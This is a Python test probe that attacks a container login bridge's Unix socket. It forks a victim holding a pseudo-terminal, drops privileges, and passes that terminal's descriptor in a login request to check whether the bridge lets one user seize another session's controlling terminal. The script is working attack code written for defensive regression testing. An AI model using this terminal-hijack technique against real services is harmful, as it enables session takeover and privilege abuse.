#!/usr/bin/env python3
"""An attack on allot-ssh-bridge's login socket (tests/integration/image_session_test.cc): the
session's owner holds an open descriptor to a terminal that is another session's controlling one
and asks the bridge to make it the controlling terminal of a login in the container.

  tty_steal_probe.py SOCKET UID GID

Run as root: it opens a pseudo-terminal, makes it the controlling terminal of a "victim" process
in a session of its own, then, as UID:GID with that descriptor, sends the login. Prints the
bridge's answer ("code=N message=...") and whether the victim kept its terminal.
"""

import fcntl
import json
import os
import socket
import sys
import termios
import time

path, uid, gid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
master, slave = os.openpty()
victim = os.fork()
if victim == 0:
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    time.sleep(30)
    os._exit(0)
time.sleep(0.2)

reply_r, reply_w = os.pipe()
attacker = os.fork()
if attacker == 0:
    os.close(reply_r)
    os.setgroups([])
    os.setgid(gid)
    os.setuid(uid)
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.connect(path)
        request = {"command": "echo stolen", "tty": True, "env": {}}
        socket.send_fds(s, [json.dumps(request).encode()], [slave, slave, slave])
        answer = s.recv(4096)
        os.write(reply_w, answer)
    except Exception as e:  # said on stderr, for the test's message
        print(f"attacker: {e!r}", file=sys.stderr)
    os._exit(0)
os.close(reply_w)
os.waitpid(attacker, 0)
answer = os.read(reply_r, 4096)
code = int.from_bytes(answer[:4], sys.byteorder, signed=True) if len(answer) >= 4 else -1
print(f"code={code} message={answer[4:].decode(errors='replace')}")
with open(f"/proc/{victim}/stat") as f:
    fields = f.read().rsplit(")", 1)[1].split()
print("victim-kept-terminal" if int(fields[4]) == os.fstat(slave).st_rdev else "victim-lost-terminal")
os.kill(victim, 9)
os.waitpid(victim, 0)
